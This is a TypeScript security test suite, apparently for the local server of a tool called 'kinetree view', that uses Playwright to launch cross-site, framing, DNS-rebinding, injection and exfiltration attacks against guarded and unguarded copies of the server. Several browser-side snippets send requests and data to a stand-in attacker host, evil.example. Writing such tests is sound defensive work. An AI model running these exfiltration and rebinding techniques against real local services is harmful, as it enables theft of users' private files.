import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startViewServer, type ViewServer } from '../../bin/viewServer.ts'
import { type AttackServer, type Sink, startSink, startUnguarded } from './attack/attacker.ts'
import { PAGES, SECRET, writeHostileFolder } from './attack/hostileFolder.ts'
import { ATTACKS, type Attack, OWN_ATTACKS } from './attack/pageAttacks.ts'
import { browserOrReason, SOFTWARE_GL } from './browser.ts'
import { dist } from './support.ts'

/**
 * Attacks on the server of `kinetree view` in a real browser. Each of them also runs against the same server with its
 * guards removed, where it must succeed: otherwise its failure would say nothing.
 */

const { launch, missing } = browserOrReason()
const home = mkdtempSync(join(tmpdir(), 'kinetree-attack-'))

let browser: Browser
let sink: Sink
let server: ViewServer
let unguarded: AttackServer
/** Addresses of the two servers. */
let targets: { readonly guarded: string; readonly unguarded: string }

beforeAll(async () => {
  if (!launch) return
  sink = await startSink()
  writeHostileFolder(join(home, 'robot'), `http://evil.example:${sink.port}/`)
  server = await startViewServer({ viewer: join(dist, 'viewer'), folder: join(home, 'robot'), port: 0 })
  unguarded = await startUnguarded(Number(new URL(server.url).port))
  targets = { guarded: server.url, unguarded: unguarded.url }
  browser = await launch([
    ...SOFTWARE_GL,
    // names of attackers that lead to this machine, as after DNS rebinding
    '--host-resolver-rules=MAP *.example 127.0.0.1',
    // a guard of this browser, which others do not have
    '--disable-features=LocalNetworkAccessChecks',
  ])
})

afterAll(async () => {
  await browser?.close()
  await server?.close()
  unguarded?.close()
  sink?.close()
  rmSync(home, { recursive: true })
})

/** What has arrived at the attacker from pages of a target: they send it to a folder with the name of their port. */
const stolenFrom = (target: string) => sink.received.filter((url) => url.startsWith(`/${new URL(target).port}/`))

/** Runs something in a new page, and gives what has arrived at the attacker from a target. */
async function inPage<T>(
  target: string,
  look: (page: Page) => Promise<T>,
): Promise<{ result: T; stolen: readonly string[] }> {
  const context = await browser.newContext({ acceptDownloads: false })
  try {
    const result = await look(await context.newPage())
    return { result, stolen: stolenFrom(target) }
  } finally {
    await context.close()
  }
}

/** What attacks get out of a target, from one page. */
async function gains(
  from: string,
  attacks: Readonly<Record<string, Attack>>,
  target: string,
): Promise<{ got: Readonly<Record<string, unknown>>; stolen: readonly string[] }> {
  const { result, stolen } = await inPage(target, async (page) => {
    await page.goto(from)
    const found = Object.entries(attacks).map(
      async ([name, attack]) =>
        [name, (await page.evaluate(attack, target).catch(() => undefined)) || undefined] as const,
    )
    return Object.fromEntries(await Promise.all(found))
  })
  return { got: result, stolen }
}

const wait = (ms: number) => new Promise((done) => setTimeout(done, ms))

describe.runIf(launch)('the server of the viewer, attacked', () => {
  describe.each([
    ['another site', () => `http://evil.example:${sink.port}/`],
    ['another port of this machine', () => sink.url],
  ])('by a page of %s', (_, from) => {
    test(`gives nothing: ${Object.keys(ATTACKS).join(', ')}`, async () => {
      const open = await gains(from(), ATTACKS, targets.unguarded)
      expect(Object.keys(open.got).filter((name) => open.got[name] === undefined)).toEqual([])
      const closed = await gains(from(), ATTACKS, targets.guarded)
      expect(Object.keys(closed.got).filter((name) => closed.got[name] !== undefined)).toEqual([])
      expect(Object.keys(closed.got)).toEqual(Object.keys(ATTACKS))
      expect(closed.stolen).toEqual([])
    })

    test('is not shown in a frame', async () => {
      const framed = (target: string) =>
        inPage(target, async (page) => {
          await page.goto(from())
          await page.evaluate(
            (url) =>
              new Promise((done) => {
                const frame = document.createElement('iframe')
                frame.onload = done
                frame.src = url
                document.body.append(frame)
              }),
            target,
          )
          const frame = page.frames()[1]
          return frame.evaluate(() => location.origin).catch(() => 'nothing')
        })
      expect((await framed(targets.unguarded)).result).toBe(targets.unguarded.slice(0, -1))
      expect((await framed(targets.guarded)).result).toBe('null')
    })

    test('takes neither forms nor beacons', async () => {
      const posted = (target: string) =>
        inPage(target, async (page) => {
          const statuses: number[] = []
          page.on('response', (response) => {
            if (response.url().startsWith(target)) statuses.push(response.status())
          })
          await page.goto(from())
          await page.evaluate((url) => {
            navigator.sendBeacon(`${url}model/secret.xml`, 'text')
            const form = document.createElement('form')
            form.method = 'post'
            form.action = `${url}model/secret.xml`
            document.body.append(form)
            form.submit()
          }, target)
          await expect.poll(() => statuses.length).toBeGreaterThan(0)
          return statuses
        })
      expect((await posted(targets.unguarded)).result).toContain(200)
      for (const status of (await posted(targets.guarded)).result) expect(status).toBe(403)
    })

    test('is reached by a link only as the viewer', async () => {
      const followed = (target: string, path: string) =>
        inPage(target, async (page) => {
          await page.goto(from())
          const response = page.waitForResponse((found) => found.url() === target + path)
          await page.evaluate((url) => {
            location.href = url
          }, target + path)
          return (await response).status()
        })
      expect((await followed(targets.unguarded, 'model/page.html')).result).toBe(200)
      expect((await followed(targets.guarded, 'model/page.html')).result).toBe(403)
      expect((await followed(targets.guarded, '')).result).toBe(200)
    })
  })

  test('gives nothing to a site whose name leads to this machine', async () => {
    const rebound = (target: string) =>
      inPage(target, async (page) => {
        const site = `http://rebound.example:${new URL(target).port}/`
        await page.route(`${site}page`, (route) => route.fulfill({ contentType: 'text/html', body: '<body>' }))
        await page.goto(`${site}page`)
        return page.evaluate(async () => {
          const paths = ['/', '/model/secret.xml', '/model/list.json', '/changes']
          const answers = await Promise.all(paths.map((path) => fetch(path)))
          return answers.map(({ status }) => status)
        })
      })
    expect((await rebound(targets.unguarded)).result).toEqual([200, 200, 200, 200])
    expect((await rebound(targets.guarded)).result).toEqual([403, 403, 403, 403])
  })

  test(`runs no script of files in the folder of the model: ${PAGES.join(', ')}`, async () => {
    const opened = (target: string, name: string, ready: () => Promise<unknown>) =>
      inPage(target, async (page) => {
        // a download is an error for this method
        await page.goto(`${target}model/${name}`).catch(() => {})
        await ready()
      })
    for (const name of PAGES) {
      const isStolen = () => stolenFrom(targets.unguarded).some((url) => url.includes(SECRET))
      await opened(targets.unguarded, name, () => expect.poll(isStolen, { message: name, timeout: 10_000 }).toBe(true))
      sink.received.length = 0
    }
    const answers = await Promise.all(PAGES.map((name) => opened(targets.guarded, name, () => wait(500))))
    for (const { stolen } of answers) expect(stolen).toEqual([])
  })

  test(`makes no file of the model part of its page: ${Object.keys(OWN_ATTACKS).join(', ')}`, async () => {
    const open = await gains(targets.unguarded, OWN_ATTACKS, targets.unguarded)
    expect(Object.keys(open.got).filter((name) => open.got[name] === undefined)).toEqual([])
    const closed = await gains(targets.guarded, OWN_ATTACKS, targets.guarded)
    expect(Object.keys(closed.got).filter((name) => closed.got[name] !== undefined)).toEqual([])
    expect(closed.stolen).toEqual([])
  })

  test('lets even a script in its page send nothing away', async () => {
    const sent = (target: string) =>
      inPage(target, async (page) => {
        await page.goto(target)
        await page.evaluate(
          async (url) => {
            await fetch(`${url}fetch`, { mode: 'no-cors' }).catch(() => {})
            navigator.sendBeacon(`${url}beacon`, 'text')
            new Image().src = `${url}image`
            new EventSource(`${url}events`)
            try {
              new WebSocket(`${url.replace('http', 'ws')}socket`)
            } catch {
              // refused at once
            }
            for (const [tag, property] of [
              ['script', 'src'],
              ['iframe', 'src'],
              ['object', 'data'],
              ['video', 'src'],
            ])
              document.body.append(Object.assign(document.createElement(tag), { [property]: `${url}${tag}` }))
            document.body.append(
              Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${url}link` }),
            )
            await new Promise((done) => setTimeout(done, 500))
          },
          `http://evil.example:${sink.port}/${new URL(target).port}/`,
        )
      })
    const names = ['fetch', 'beacon', 'image', 'events', 'socket', 'script', 'iframe', 'object', 'video', 'link']
    const { stolen } = await sent(targets.unguarded)
    for (const name of names) expect(stolen, name).toContain(`/${unguarded.port}/${name}`)
    expect((await sent(targets.guarded)).stolen).toEqual([])
  })

  test('loads no model of another site', async () => {
    const loaded = (target: string) =>
      inPage(target, async (page) => {
        await page.goto(`${target}?model=http://evil.example:${sink.port}/${new URL(target).port}/robot.xml`)
        await page.locator('.kinetree [role=alert], .kinetree .notice').first().waitFor({ timeout: 20_000 })
      })
    expect((await loaded(targets.unguarded)).stolen).toContain(`/${unguarded.port}/robot.xml`)
    expect((await loaded(targets.guarded)).stolen).toEqual([])
  })

  test('shows names of a model as text', async () => {
    const { result } = await inPage(targets.unguarded, async (page) => {
      await page.goto(`${targets.unguarded}?model=model/robot.xml`)
      await page.waitForFunction(() => document.title.startsWith('hostile'), undefined, { timeout: 30_000 })
      for (const section of ['Joints', 'Keyframes', 'Tree', 'Inspector'])
        await page.locator('summary', { hasText: section }).click()
      await page.getByRole('searchbox', { name: 'Search the model' }).fill('<img')
      for (const name of ['joint <img', 'key <img', 'body <img', 'geom <img'])
        await page.getByText(name).first().waitFor({ state: 'attached' })
      return page.locator('img').count()
    })
    expect(result).toBe(0)
    expect(sink.received.filter((url) => url.includes('stolen?name'))).toEqual([])
  })
})

test.runIf(missing !== undefined)('the server of the viewer is not attacked', () => {
  console.log(`skipped: ${missing}`)
})
